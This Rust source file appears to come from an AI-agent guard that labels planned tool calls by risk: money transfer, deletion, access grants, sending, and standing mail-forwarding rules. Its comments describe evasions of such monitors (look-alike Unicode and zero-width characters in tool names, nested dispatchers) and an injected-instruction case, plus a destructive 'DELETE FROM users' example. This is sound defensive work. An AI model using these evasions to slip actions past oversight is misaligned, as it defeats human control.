//! The tool annotator: fills every missing annotation of a step from the step itself, then a
//! user-supplied [`ToolCatalog`], then the default lexicon — the action and resource domain
//! inferred from the tool name's tokens (and HTTP method or command line), irreversible,
//! sensitive, network, permission scopes, estimated cost and endpoints.

use std::borrow::Cow;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::OnceLock;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use vigil_contracts::hash::fnv1a64;
use vigil_contracts::{Plan, Step};

use super::args::{ArgScan, command_text};
use super::endpoints::normalise_endpoints;
use super::lexicon::{
    ACCESS_ARGS, ACCESS_OBJECTS, AMOUNT_ARGS, DELETE, DOMAINS, EXECUTE, EXTRA_VERBS, GRANT,
    HTTP_CLIENT_NOUNS, HTTP_CLIENT_WORDS, IRREVERSIBLE_TOKENS, LOOKUP_NOUNS, MEMBER_OBJECTS,
    MEMBERSHIP_OBJECTS, MONEY_OBJECTS, NETWORK_TOKENS, NOUN_LIKE, PAYEE_ARGS, PUBLIC_WORDS,
    PUBLICATION_OBJECTS, READ, RULE_WORDS, SEND, SENSITIVE_TOKENS, STANDING_FORWARD_WORDS,
    TRANSFER, TRASH_OBJECTS, WRITE, domain_words,
};
use super::roles::ArgRoles;
use super::shell::is_read_only_command;
use crate::{Error, Result};

/// What a step does, as inferred from its tool name (and HTTP method).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Action {
    /// Reads, lists, searches.
    Read,
    /// Creates or changes something that can be changed back.
    Write,
    /// Sends, posts or publishes content to someone else.
    Send,
    /// Deletes, drops, terminates, revokes.
    Delete,
    /// Moves money.
    Transfer,
    /// Grants access, unlocks, shares, changes permissions.
    Grant,
    /// Runs code or commands.
    Execute,
    /// Nothing recognisable.
    Other,
}

impl Action {
    /// The actions that change something (all but reads and the unrecognised).
    pub const CHANGES: [Action; 6] = [
        Action::Write,
        Action::Send,
        Action::Delete,
        Action::Transfer,
        Action::Grant,
        Action::Execute,
    ];

    /// Whether the action changes something (one of [`Action::CHANGES`]).
    pub fn changes(self) -> bool {
        !matches!(self, Action::Read | Action::Other)
    }

    /// Lower-case name (`send`, `delete`, ...).
    pub fn as_str(self) -> &'static str {
        match self {
            Action::Read => "read",
            Action::Write => "write",
            Action::Send => "send",
            Action::Delete => "delete",
            Action::Transfer => "transfer",
            Action::Grant => "grant",
            Action::Execute => "execute",
            Action::Other => "other",
        }
    }

    /// Actions whose effect cannot be undone by the agent.
    pub fn is_irreversible(self) -> bool {
        matches!(
            self,
            Action::Send | Action::Delete | Action::Transfer | Action::Grant | Action::Execute
        )
    }
}

/// A step with every annotation filled in.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct StepAnnotation {
    /// Inferred (or catalogued) action.
    pub action: Action,
    /// Inferred (or catalogued) resource domain: `email`, `files`, `shell`, `payments`, `home`,
    /// `cloud`, `crm`, `social`, `db`, `web`, `calendar`, `iam` or `other`.
    /// A lexicon domain is borrowed (no string per step), a catalogued one owned.
    pub domain: Cow<'static, str>,
    /// The step cannot be undone.
    pub irreversible: bool,
    /// The step touches sensitive data.
    pub sensitive: bool,
    /// The step makes an external network call.
    pub network: bool,
    /// Permission scopes (`domain:action`), unique, sorted.
    pub permissions: Vec<String>,
    /// Estimated cost in the budget's unit.
    pub estimated_cost: f64,
    /// External endpoints (hosts, e-mail addresses), unique, sorted.
    pub endpoints: Vec<String>,
    /// The tool name's lower-case tokens ([`tool_tokens`]), kept for the rules.
    #[serde(skip)]
    pub tokens: Vec<String>,
    /// A read whose search query names a sensitive topic (`search_emails(query="password
    /// reset")`): not sensitive access — the user's own data about the topic — but what it
    /// returns is sensitive if it is sent on.
    #[serde(skip)]
    pub sensitive_topic: bool,
    /// The e-mail addresses the step invites: those under a participant, attendee, guest or
    /// invitee argument at any depth (a calendar event's `participants`,
    /// `requestBody.attendees[].email`), lower-cased, in order. Each is told what the event or
    /// document holds, as a recipient of a send would be.
    #[serde(skip)]
    pub invitees: Vec<String>,
    /// The e-mail addresses a standing mail-forwarding rule the step sets up sends all future
    /// mail to (`create_mail_filter {"action": {"forward": …}}`, `set_email_forwarding
    /// {"forward_to": …}`, `auto_forward`), lower-cased; empty for a one-off forward or send.
    #[serde(skip)]
    pub forwards_to: Vec<String>,
}

/// One catalogued tool: any field given overrides the lexicon for that tool.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CatalogEntry {
    /// Action class.
    #[serde(default)]
    pub action: Option<Action>,
    /// Resource domain.
    #[serde(default)]
    pub domain: Option<String>,
    /// Irreversible.
    #[serde(default)]
    pub irreversible: Option<bool>,
    /// Sensitive.
    #[serde(default)]
    pub sensitive: Option<bool>,
    /// Makes network calls.
    #[serde(default)]
    pub network: Option<bool>,
    /// Permission scopes.
    #[serde(default)]
    pub permissions: Option<Vec<String>>,
    /// Per-call cost.
    #[serde(default)]
    pub estimated_cost: Option<f64>,
    /// Fixed endpoints the tool contacts.
    #[serde(default)]
    pub endpoints: Option<Vec<String>>,
}

/// A user-supplied tool catalog: `{"tools": {"<tool name>": {<CatalogEntry>}}}`.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ToolCatalog {
    /// Entries by exact tool name.
    pub tools: BTreeMap<String, CatalogEntry>,
}

impl ToolCatalog {
    /// Parses and validates a catalog; errors name the offending field
    /// (`tools.ship.estimated_cost: -1 must be ...`).
    pub fn from_json(text: &str) -> Result<Self> {
        let catalog: ToolCatalog =
            vigil_contracts::from_json_str(text).map_err(|e| Error::InvalidParam {
                param: "catalog".into(),
                value: vigil_contracts::text::ellipsize(text, 60),
                reason: e.to_string(),
            })?;
        for (name, entry) in &catalog.tools {
            if let Some(c) = entry.estimated_cost
                && !(c.is_finite() && c >= 0.0)
            {
                return Err(Error::InvalidParam {
                    param: format!("catalog tools.{name}.estimated_cost"),
                    value: c.to_string(),
                    reason: "must be a finite number ≥ 0".into(),
                });
            }
            if name.trim().is_empty() {
                return Err(Error::InvalidParam {
                    param: "catalog tools".into(),
                    value: format!("{name:?}"),
                    reason: "tool names must not be empty".into(),
                });
            }
        }
        Ok(catalog)
    }
}

/// Fills missing step annotations: step fields, then the catalog, then the lexicon.
#[derive(Debug, Clone, Default)]
pub struct ToolAnnotator {
    catalog: ToolCatalog,
}

impl ToolAnnotator {
    /// An annotator using `catalog` before the default lexicon.
    pub fn with_catalog(catalog: ToolCatalog) -> Self {
        ToolAnnotator { catalog }
    }

    /// The catalog in use.
    pub fn catalog(&self) -> &ToolCatalog {
        &self.catalog
    }

    /// Annotates every step of a plan.
    pub fn annotate_plan(&self, plan: &Plan) -> Vec<StepAnnotation> {
        plan.steps.iter().map(|s| self.annotate(s)).collect()
    }

    /// Annotates one step.
    pub fn annotate(&self, step: &Step) -> StepAnnotation {
        // A generic dispatcher (`mcp.call_tool {"name": "send_money", "arguments": {…}}`, an MCP
        // `tools/call` request, an Anthropic `tool_use` block) is read as the tool it calls, with
        // that tool's arguments (the step's own annotation fields still win). Dispatchers calling
        // dispatchers are unwrapped down to [`MAX_DISPATCH_DEPTH`] levels.
        let Some(mut inner) = dispatched_call(step) else {
            return self.annotate_one(step);
        };
        for _ in 1..MAX_DISPATCH_DEPTH {
            match dispatched_call(&inner) {
                Some(next) => inner = next,
                None => break,
            }
        }
        self.annotate_one(&inner)
    }

    fn annotate_one(&self, step: &Step) -> StepAnnotation {
        // Look-alikes read as what they look like: `ｇｍａｉｌ.ｆｏｒｗａｒｄ` is `gmail.forward`.
        let tool = crate::fold::fold(&step.tool);
        let entry = (self.catalog.tools.get(&step.tool)).or_else(|| self.catalog.tools.get(&*tool));
        let mut tokens = tool_tokens(&tool);
        // An invisible character may hide inside a word (`tra\u{200d}nsfer`: removed, as the
        // fold does) or join two (`wire\u{2060}transfer`: a word break). Both readings are
        // taken: the riskier action, and for the domain and flags the tokens of the first with
        // the lexicon words of the second (`gmail.for\u{200b}ward` gains no "for", "ward").
        let broken = crate::fold::fold_with_breaks(&step.tool).map(|t| tool_tokens(&t));
        let scan = ArgScan::of(&step.args);
        let roles = ArgRoles::of(&step.args);
        let forwards = forward_targets(&tokens, &roles, &scan);
        let action = entry.and_then(|e| e.action).unwrap_or_else(|| {
            let joined = infer_action(&tokens, &step.args, &roles, !forwards.is_empty());
            broken.as_ref().map_or(joined, |b| {
                riskier(
                    joined,
                    infer_action(b, &step.args, &roles, !forwards.is_empty()),
                )
            })
        });
        for t in broken.into_iter().flatten() {
            if is_lexicon_word(&t) && !tokens.contains(&t) {
                tokens.push(t);
            }
        }
        // Kept for the whole plan walk: a 300,000-step plan pays any spare room 300,000 times.
        tokens.shrink_to_fit();

        let domain = entry
            .and_then(|e| e.domain.clone())
            .map_or_else(|| Cow::Borrowed(infer_domain(&tokens, &scan)), Cow::Owned);

        let endpoints = match (&step.endpoints, entry.and_then(|e| e.endpoints.as_ref())) {
            (Some(given), _) => normalise_endpoints(given.iter().cloned()),
            (None, Some(cat)) => normalise_endpoints(cat.iter().cloned().chain(scan.endpoints())),
            (None, None) => normalise_endpoints(scan.endpoints()),
        };
        let network = step
            .network
            .or(entry.and_then(|e| e.network))
            .unwrap_or_else(|| {
                // A write that only records e-mail addresses (calendar attendees, a contact)
                // contacts no one by itself; hosts still count.
                let contacts = if action == Action::Write {
                    endpoints.iter().any(|e| !e.contains('@'))
                } else {
                    !endpoints.is_empty()
                };
                contacts
                    || tokens.iter().any(|t| NETWORK_TOKENS.contains(&t.as_str()))
                    || (action == Action::Send
                        && matches!(&*domain, "email" | "social" | "web"))
                    // Anything written to a social platform is published outside.
                    || (domain == "social" && action != Action::Read)
            });
        let irreversible = step
            .irreversible
            .or(entry.and_then(|e| e.irreversible))
            .unwrap_or_else(|| {
                action.is_irreversible()
                    || tokens
                        .iter()
                        .any(|t| IRREVERSIBLE_TOKENS.contains(&t.as_str()))
            });
        let sensitive = step
            .sensitive
            .or(entry.and_then(|e| e.sensitive))
            .unwrap_or_else(|| {
                domain == "payments"
                    || tokens
                        .iter()
                        .any(|t| SENSITIVE_TOKENS.contains(&t.as_str()))
                    || scan.sensitive
                    // Searching one's own data for "password reset" is not reading a secret.
                    || (scan.query_sensitive && action != Action::Read)
            });
        let permissions = match (
            &step.permissions,
            entry.and_then(|e| e.permissions.as_ref()),
        ) {
            (Some(p), _) | (None, Some(p)) => {
                let set: BTreeSet<String> = p.iter().map(|s| s.trim().to_lowercase()).collect();
                set.into_iter().filter(|s| !s.is_empty()).collect()
            }
            (None, None) => vec![[&*domain, ":", action.as_str()].concat()],
        };
        let estimated_cost = step
            .estimated_cost
            .or(entry.and_then(|e| e.estimated_cost))
            .unwrap_or_else(|| estimate_cost(action, &domain, &step.args));

        StepAnnotation {
            action,
            domain,
            irreversible,
            sensitive,
            network,
            permissions,
            estimated_cost,
            endpoints,
            tokens,
            sensitive_topic: scan.query_sensitive,
            invitees: roles.invitees,
            // A rule that forwards is a send (its action, unless a catalog or the step says
            // otherwise); a delete of a forwarding rule forwards nothing.
            forwards_to: if action == Action::Send {
                forwards
            } else {
                Vec::new()
            },
        }
    }
}

/// The action of a step from its name tokens and arguments.
///
/// The name decides, then the arguments and an HTTP `method` argument may only raise it:
/// money or access arguments say more than a generic verb (but not than a read verb: the
/// `amount` of `search_transactions` is a filter), and a `method` says what a generic HTTP
/// client does ([`HTTP_CLIENT_WORDS`]) but never lowers what a name says — `send_money` with
/// `"method": "GET"` still moves money, `search` with `"method": "POST"` sends its body.
///
/// What the argument names say ([`ArgRoles`]) raises a write or an unrecognised name (never a
/// read, a send or a grant of its own): a trash flag or destination → delete, a public
/// visibility → grant, a mail-forwarding target (`forwards`, [`forward_targets`]) → send.
fn infer_action(
    tokens: &[String],
    args: &serde_json::Map<String, Value>,
    roles: &ArgRoles,
    forwards: bool,
) -> Action {
    let has = |list: &[&str]| tokens.iter().any(|t| list.contains(&t.as_str()));
    if is_answer_to_user(tokens, args) {
        return Action::Read;
    }
    // Shell-like tools: a read-only command line is a read, whatever the tool is called.
    if has(EXECUTE) || tokens.iter().any(|t| t == "git") {
        if let Some(cmd) = command_text(args) {
            if is_read_only_command(&cmd) {
                return Action::Read;
            }
        }
    }
    // Query tools: what the SQL they are sent does (`sql_query("DELETE FROM users")` deletes).
    let by_name = match database_sql_action(tokens, args) {
        Some(sql) => riskier(name_action(tokens), sql),
        None => name_action(tokens),
    };
    let http_client = is_http_client(tokens);
    let base = match (method_action(args), http_client) {
        (Some(m), true) => m,
        (Some(m), false) => riskier(by_name, m),
        (None, _) => by_name,
    };
    let action = match args_action(args) {
        Some(a) if http_client || by_name != Action::Read => riskier(base, a),
        _ => base,
    };
    if !matches!(action, Action::Write | Action::Other) || by_name == Action::Read {
        return action;
    }
    if roles.trashes {
        Action::Delete
    } else if roles.publishes {
        Action::Grant
    } else if forwards {
        Action::Send
    } else {
        action
    }
}

/// The addresses a step would forward mail to by a standing rule: every e-mail address in the
/// arguments of a tool named for forwarding ([`STANDING_FORWARD_WORDS`]: `set_email_forwarding`,
/// `enable_autoforwarding`, `auto_forward`), and the forward-key addresses ([`ArgRoles`]:
/// `action.forward`, `forward_to`) of a tool named for a filter, rule or setting
/// ([`RULE_WORDS`]). Empty for anything else, a one-off `forward_email` included.
fn forward_targets(tokens: &[String], roles: &ArgRoles, scan: &ArgScan) -> Vec<String> {
    let has = |w: &str| tokens.iter().any(|t| t == w);
    let named = tokens
        .iter()
        .any(|t| STANDING_FORWARD_WORDS.contains(&t.as_str()))
        || (has("auto") && (has("forward") || has("forwards")));
    if named {
        let mut all: Vec<String> = roles.forward.clone();
        for e in &scan.emails {
            let e = e.to_lowercase();
            if !all.contains(&e) {
                all.push(e);
            }
        }
        all
    } else if tokens.iter().any(|t| RULE_WORDS.contains(&t.as_str())) {
        roles.forward.clone()
    } else {
        Vec::new()
    }
}

/// What an HTTP `method` argument does: GET/HEAD/OPTIONS read, POST/PUT/PATCH send, DELETE
/// deletes.
fn method_action(args: &serde_json::Map<String, Value>) -> Option<Action> {
    let Some(Value::String(m)) = args.get("method") else {
        return None;
    };
    match crate::fold::fold(m).trim().to_ascii_uppercase().as_str() {
        "GET" | "HEAD" | "OPTIONS" => Some(Action::Read),
        "POST" | "PUT" | "PATCH" => Some(Action::Send),
        "DELETE" => Some(Action::Delete),
        _ => None,
    }
}

/// A generic HTTP client (`http_request`, `api_call`, `requests`, `send_http_request`): every
/// token is one of [`HTTP_CLIENT_WORDS`] and one names the client ([`HTTP_CLIENT_NOUNS`]).
fn is_http_client(tokens: &[String]) -> bool {
    !tokens.is_empty()
        && tokens
            .iter()
            .all(|t| HTTP_CLIENT_WORDS.contains(&t.as_str()))
        && tokens
            .iter()
            .any(|t| HTTP_CLIENT_NOUNS.contains(&t.as_str()))
}

/// The more consequential of two actions, in [`ACTION_LISTS`] order (transfer > delete > grant
/// > execute > send > write > read > other).
pub(super) fn riskier(a: Action, b: Action) -> Action {
    let rank = |x: Action| ACTION_LISTS.iter().position(|(_, y)| *y == x).unwrap_or(7);
    if rank(b) < rank(a) { b } else { a }
}

/// The words of a tool that is the agent's answer to its own user (`reply`, `final_answer`,
/// `respond_to_user`): nothing leaves the conversation.
const ANSWER_TOOL_WORDS: &[&str] = &["reply", "respond", "answer", "say"];

/// Filler words an answer tool's name may hold besides its verb.
const ANSWER_TOOL_FILLERS: &[&str] = &["to", "the", "user", "final", "chat"];

/// Argument keys that address someone else: a tool with one is a message, not an answer.
const ADDRESSEE_KEYS: &[&str] = &[
    "to",
    "recipient",
    "recipients",
    "cc",
    "bcc",
    "email",
    "address",
    "channel",
    "thread",
    "thread_id",
    "chat_id",
    "conversation",
    "conversation_id",
    "user_id",
    "phone",
    "number",
    "message_id",
    "email_id",
    "in_reply_to",
    "url",
    "webhook",
];

/// Whether the step is the agent answering its own user: a tool named only by
/// [`ANSWER_TOOL_WORDS`] (with [`ANSWER_TOOL_FILLERS`]) and no argument addressing anyone
/// ([`ADDRESSEE_KEYS`]). Such an answer is a read: it changes nothing outside, so an agent that
/// read an injected output and answered "I ignored the instruction in that log" is not acting
/// on it. `reply_email`, `slack.reply` or `reply(to=…)` are messages.
fn is_answer_to_user(tokens: &[String], args: &serde_json::Map<String, Value>) -> bool {
    let verbs = tokens
        .iter()
        .filter(|t| ANSWER_TOOL_WORDS.contains(&t.as_str()))
        .count();
    verbs == 1
        && tokens.iter().all(|t| {
            ANSWER_TOOL_WORDS.contains(&t.as_str()) || ANSWER_TOOL_FILLERS.contains(&t.as_str())
        })
        && !args
            .keys()
            .any(|k| ADDRESSEE_KEYS.contains(&k.to_ascii_lowercase().as_str()))
}

/// Tool-name words of database and query tools ([`database_sql_action`]).
const DATABASE_WORDS: &[&str] = &[
    "sql",
    "query",
    "queries",
    "db",
    "database",
    "postgres",
    "postgresql",
    "psql",
    "mysql",
    "sqlite",
    "snowflake",
    "bigquery",
    "bq",
    "redshift",
    "athena",
    "duckdb",
    "clickhouse",
    "mssql",
    "oracle",
    "databricks",
    "warehouse",
];

/// The SQL argument keys of a database tool.
const SQL_KEYS: &[&str] = &["sql", "query", "statement", "statements", "q", "command"];

/// What the SQL a database tool is sent does ([`crate::plan::sql_statement_action`]), for a
/// tool whose name has a [`DATABASE_WORDS`] word and an argument under a [`SQL_KEYS`] key.
fn database_sql_action(tokens: &[String], args: &serde_json::Map<String, Value>) -> Option<Action> {
    if !tokens.iter().any(|t| DATABASE_WORDS.contains(&t.as_str())) {
        return None;
    }
    args.iter()
        .filter(|(k, _)| SQL_KEYS.contains(&k.to_ascii_lowercase().as_str()))
        .filter_map(|(_, v)| v.as_str())
        .filter_map(super::sql::statement_action)
        .reduce(riskier)
}

/// The action class of one token used as a verb, if it is one (a plural or third-person `-s`
/// is read as its stem: "purchases", "sends").
fn verb_action(token: &str) -> Option<Action> {
    let find = |t: &str| lexicon_entry(t).and_then(|e| e.verb);
    find(token).or_else(|| Some(singular(token)).filter(|s| *s != token).and_then(find))
}

/// [`verb_action`] by walking the lists (the reference the table is tested against).
#[cfg(test)]
fn verb_action_by_lists(token: &str) -> Option<Action> {
    let find = |t: &str| {
        if let Some((_, a)) = EXTRA_VERBS.iter().find(|(v, _)| *v == t) {
            return Some(*a);
        }
        ACTION_LISTS
            .iter()
            .find(|(list, _)| list.contains(&t))
            .map(|(_, a)| *a)
    };
    find(token).or_else(|| Some(singular(token)).filter(|s| *s != token).and_then(find))
}

/// What the lexicon says about one tool-name token, looked up once instead of list by list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct LexiconEntry {
    /// The first of [`EXTRA_VERBS`], then [`ACTION_LISTS`] in order, that has the token.
    verb: Option<Action>,
    /// The token is in [`NOUN_LIKE`].
    noun_like: bool,
    /// The index of the first of [`DOMAINS`] whose words have the token.
    domain: Option<usize>,
}

/// Every token of the verb lists, [`NOUN_LIKE`] and [`DOMAINS`] with its entry, in an
/// open-addressing table keyed by FNV-1a (a lookup hashes the token once and compares it with
/// one or two keys).
struct LexiconTable {
    /// `slots.len() - 1` (the length is a power of two).
    mask: usize,
    /// An index into `entries`, or `u16::MAX` for an empty slot.
    slots: Vec<u16>,
    entries: Vec<(&'static str, LexiconEntry)>,
}

fn lexicon_table() -> &'static LexiconTable {
    static T: OnceLock<LexiconTable> = OnceLock::new();
    T.get_or_init(|| {
        let mut table: Vec<(&'static str, LexiconEntry)> = Vec::new();
        fn entry<'t>(
            table: &'t mut Vec<(&'static str, LexiconEntry)>,
            t: &'static str,
        ) -> &'t mut LexiconEntry {
            let at = match table.iter().position(|(k, _)| *k == t) {
                Some(at) => at,
                None => {
                    table.push((
                        t,
                        LexiconEntry {
                            verb: None,
                            noun_like: false,
                            domain: None,
                        },
                    ));
                    table.len() - 1
                }
            };
            &mut table[at].1
        }
        // First list wins: fill in list order, never overwrite.
        let verb_lists = EXTRA_VERBS.iter().map(|(v, a)| (*v, *a)).chain(
            ACTION_LISTS
                .iter()
                .flat_map(|(list, a)| list.iter().map(move |v| (*v, *a))),
        );
        for (v, a) in verb_lists {
            let e = entry(&mut table, v);
            e.verb = e.verb.or(Some(a));
        }
        for t in NOUN_LIKE {
            entry(&mut table, t).noun_like = true;
        }
        for (i, (_, words)) in DOMAINS.iter().enumerate() {
            for w in *words {
                let e = entry(&mut table, w);
                e.domain = e.domain.or(Some(i));
            }
        }
        let size = (table.len() * 4).next_power_of_two();
        let mask = size - 1;
        let mut slots = vec![u16::MAX; size];
        for (i, (k, _)) in table.iter().enumerate() {
            let mut at = fnv1a64(k.as_bytes()) as usize & mask;
            while slots[at] != u16::MAX {
                at = (at + 1) & mask;
            }
            slots[at] = u16::try_from(i).expect("lexicon fits a u16 index");
        }
        LexiconTable {
            mask,
            slots,
            entries: table,
        }
    })
}

fn lexicon_entry(token: &str) -> Option<&'static LexiconEntry> {
    let table = lexicon_table();
    let mut at = fnv1a64(token.as_bytes()) as usize & table.mask;
    loop {
        let slot = table.slots[at];
        if slot == u16::MAX {
            return None;
        }
        let (key, entry) = &table.entries[usize::from(slot)];
        if *key == token {
            return Some(entry);
        }
        at = (at + 1) & table.mask;
    }
}

/// Builds the token table now (at model construction).
pub(super) fn warm_up() {
    let _ = lexicon_entry("warm");
}

/// `token` without a plural or third-person `-s` ("emails" → "email"; "access", "news" kept).
fn singular(token: &str) -> &str {
    token
        .strip_suffix('s')
        .filter(|stem| stem.len() >= 3 && !stem.ends_with('s') && !stem.ends_with('u'))
        .unwrap_or(token)
}

/// The action lists, most consequential first.
const ACTION_LISTS: [(&[&str], Action); 7] = [
    (TRANSFER, Action::Transfer),
    (DELETE, Action::Delete),
    (GRANT, Action::Grant),
    (EXECUTE, Action::Execute),
    (SEND, Action::Send),
    (WRITE, Action::Write),
    (READ, Action::Read),
];

/// Verb + object inference from a tool name's tokens. Vendor prefixes need no list: the words
/// before the first verb (`BankManager`, `AugustSmartLock`, `gmail`) are read as objects.
///
/// 1. The verbs: every token that is a verb ([`verb_action`]), leaving out words that are
///    nouns as often as verbs ([`NOUN_LIKE`]: "message", "payment", "permissions") unless the
///    name has no other verb. Only read verbs → read; otherwise the most consequential verb
///    (transfer > delete > grant > execute > send > write).
/// 2. The objects upgrade a write or send: money ([`MONEY_OBJECTS`]) → transfer, access
///    ([`ACCESS_OBJECTS`]) → grant, "add/invite" + user/member → grant, a write of a post or
///    story on a social platform → send.
/// 3. No verb at all: a name made of information-source nouns ([`LOOKUP_NOUNS`]) is a read;
///    otherwise other.
fn name_action(tokens: &[String]) -> Action {
    // A question about a capability ("can_send_mms", "is_payment_due") only reads.
    if tokens
        .first()
        .is_some_and(|t| matches!(t.as_str(), "can" | "is" | "has" | "should"))
    {
        return Action::Read;
    }
    let noun_like = |t: &str| is_noun_like(t) || is_noun_like(singular(t));
    let strict: Vec<(usize, Action)> = tokens
        .iter()
        .enumerate()
        .filter(|(_, t)| !noun_like(t))
        .filter_map(|(i, t)| verb_action(t).map(|a| (i, a)))
        .collect();
    let verbs = if strict.is_empty() {
        tokens
            .iter()
            .enumerate()
            .filter_map(|(i, t)| verb_action(t).map(|a| (i, a)))
            .collect()
    } else {
        strict
    };
    let rank = |a: Action| ACTION_LISTS.iter().position(|(_, b)| *b == a).unwrap_or(7);
    let has = |list: &[&str]| tokens.iter().any(|t| list.contains(&t.as_str()));
    let Some(&(at, verb)) = verbs
        .iter()
        .filter(|(_, a)| *a != Action::Read)
        .min_by_key(|(i, a)| (rank(*a), *i))
    else {
        if !verbs.is_empty() {
            return Action::Read;
        }
        let lookup =
            !tokens.is_empty() && tokens.iter().any(|t| LOOKUP_NOUNS.contains(&t.as_str()));
        return if lookup {
            Action::Read
        } else if has(PUBLIC_WORDS) && has(&["make"]) {
            // "make_public", "make_file_public": no verb of the lexicon, but it opens the file.
            Action::Grant
        } else {
            Action::Other
        };
    };
    let social = || {
        tokens.iter().any(|t| {
            domain_words("social").contains(&t.as_str()) || SOCIAL_BRANDS.contains(&t.as_str())
        })
    };
    // "make_public", "set_repo_public", "update_file_public": opens the item to anyone.
    let opens = || {
        has(PUBLIC_WORDS)
            && (has(&["make"])
                || matches!(
                    tokens[at].as_str(),
                    "set"
                        | "update"
                        | "change"
                        | "toggle"
                        | "modify"
                        | "edit"
                        | "turn"
                        | "mark"
                        | "enable"
                        | "configure"
                ))
    };
    match verb {
        // Moving or sending something to the trash deletes it ("move_to_trash").
        Action::Write | Action::Send
            if matches!(tokens[at].as_str(), "move" | "mv" | "send" | "put" | "add")
                && has(TRASH_OBJECTS) =>
        {
            Action::Delete
        }
        Action::Write if opens() => Action::Grant,
        // A draft is not sent: "draft_reply", "send_draft_for_review" are reversible writes.
        Action::Send if has(&["draft", "drafts"]) => Action::Write,
        // Asking for money does not move it ("send_payment_request", "send_invoice").
        Action::Send if has(&["request", "requests", "invoice", "invoices", "reminder"]) => {
            Action::Send
        }
        // Handing a call or chat over ("transfer_to_human_agents") moves no money.
        Action::Transfer
            if tokens[at] == "transfer"
                && !has(MONEY_OBJECTS)
                && has(&[
                    "human", "agent", "agents", "call", "chat", "support", "operator",
                ]) =>
        {
            Action::Send
        }
        // "submit_order", "place_order": a purchase.
        Action::Send | Action::Write
            if matches!(tokens[at].as_str(), "submit" | "place") && has(&["order", "orders"]) =>
        {
            Action::Transfer
        }
        // Leaving a channel, group or team ends a membership ("SlackLeaveChannel").
        Action::Write if tokens[at] == "leave" && has(MEMBERSHIP_OBJECTS) => Action::Delete,
        // Sharing to a social platform publishes ("share_on_pinterest").
        Action::Grant if tokens[at] == "share" && social() => Action::Send,
        // "execute_trade", "run_payment" carry out a money movement.
        Action::Write | Action::Send | Action::Execute if has(MONEY_OBJECTS) => Action::Transfer,
        Action::Write | Action::Send if has(ACCESS_OBJECTS) => Action::Grant,
        Action::Write | Action::Send
            if matches!(tokens[at].as_str(), "add" | "invite") && has(MEMBER_OBJECTS) =>
        {
            Action::Grant
        }
        Action::Write if has(PUBLICATION_OBJECTS) && social() => Action::Send,
        a => a,
    }
}

/// Social platforms not in the `social` domain's words (publication targets).
const SOCIAL_BRANDS: &[&str] = &[
    "instagram",
    "tiktok",
    "youtube",
    "pinterest",
    "mastodon",
    "x",
    "tumblr",
    "threads",
    "blog",
    "forum",
];

/// What the arguments alone say: an amount with a payee moves money; an access level, role or
/// permission grants access.
fn args_action(args: &serde_json::Map<String, Value>) -> Option<Action> {
    // Keys are folded like names: `ａｍｏｕｎｔ` or `am\u{200b}ount` is an amount. The lists are
    // lower-case ASCII, so an ASCII case-insensitive comparison needs no lower-cased copy.
    let key = |list: &[&str]| {
        args.keys().any(|k| {
            let k = crate::fold::fold(k);
            list.iter().any(|w| w.eq_ignore_ascii_case(&k))
        })
    };
    if key(AMOUNT_ARGS) && key(PAYEE_ARGS) {
        Some(Action::Transfer)
    } else if key(ACCESS_ARGS) {
        Some(Action::Grant)
    } else {
        None
    }
}

/// A word any lexicon list has (a verb, domain word, object, or network, irreversible or
/// sensitive token), or the plural of one.
fn is_lexicon_word(token: &str) -> bool {
    let listed = |t: &str| {
        lexicon_entry(t).is_some()
            || [
                SENSITIVE_TOKENS,
                NETWORK_TOKENS,
                IRREVERSIBLE_TOKENS,
                MONEY_OBJECTS,
                ACCESS_OBJECTS,
                MEMBER_OBJECTS,
                MEMBERSHIP_OBJECTS,
                PUBLICATION_OBJECTS,
                LOOKUP_NOUNS,
                TRASH_OBJECTS,
                PUBLIC_WORDS,
                STANDING_FORWARD_WORDS,
                RULE_WORDS,
            ]
            .iter()
            .any(|list| list.contains(&t))
    };
    listed(token) || listed(singular(token))
}

fn is_noun_like(token: &str) -> bool {
    lexicon_entry(token).is_some_and(|e| e.noun_like)
}

/// The first of [`DOMAINS`] whose words have one of the tokens.
fn token_domain(tokens: &[String]) -> Option<&'static str> {
    tokens
        .iter()
        .filter_map(|t| lexicon_entry(t).and_then(|e| e.domain))
        .min()
        .map(|i| DOMAINS[i].0)
}

/// [`token_domain`] by walking the lists (the reference the table is tested against).
#[cfg(test)]
fn token_domain_by_lists(tokens: &[String]) -> Option<&'static str> {
    DOMAINS
        .iter()
        .find(|(_, words)| tokens.iter().any(|t| words.contains(&t.as_str())))
        .map(|(d, _)| *d)
}

fn infer_domain(tokens: &[String], scan: &ArgScan) -> &'static str {
    if let Some(domain) = token_domain(tokens) {
        return domain;
    }
    if scan.has_sql {
        "db"
    } else if scan.has_path {
        "files"
    } else if !scan.urls.is_empty() {
        "web"
    } else {
        "other"
    }
}

/// Nominal per-call cost of an action (the default cost model).
pub fn action_cost(action: Action) -> f64 {
    match action {
        Action::Read => 0.01,
        Action::Write | Action::Delete | Action::Grant | Action::Other => 0.02,
        Action::Send => 0.05,
        Action::Execute => 0.1,
        Action::Transfer => 0.5,
    }
}

fn estimate_cost(action: Action, domain: &str, args: &serde_json::Map<String, Value>) -> f64 {
    let mut cost = action_cost(action);
    if action == Action::Transfer {
        if let Some(amount) = number_arg(args, &["amount", "amt", "value", "total", "price", "sum"])
        {
            let qty = number_arg(args, &["quantity", "qty"]).unwrap_or(1.0);
            cost += amount.abs() * qty.abs().max(1.0);
        }
    }
    if domain == "cloud" && matches!(action, Action::Write | Action::Execute) {
        let count = number_arg(args, &["count", "instances", "replicas", "nodes", "size"])
            .unwrap_or(1.0)
            .clamp(1.0, 1e6);
        cost *= 10.0 * count;
    }
    if cost.is_finite() { cost } else { 1e12 }
}

/// The first of `keys` with a number (or a number written as a string, `"$1,200"`); keys are
/// compared folded and lower-cased, as [`args_action`] reads them (`ＡＭＴ` is `amt`).
fn number_arg(args: &serde_json::Map<String, Value>, keys: &[&str]) -> Option<f64> {
    let get = |k: &str| {
        args.get(k).or_else(|| {
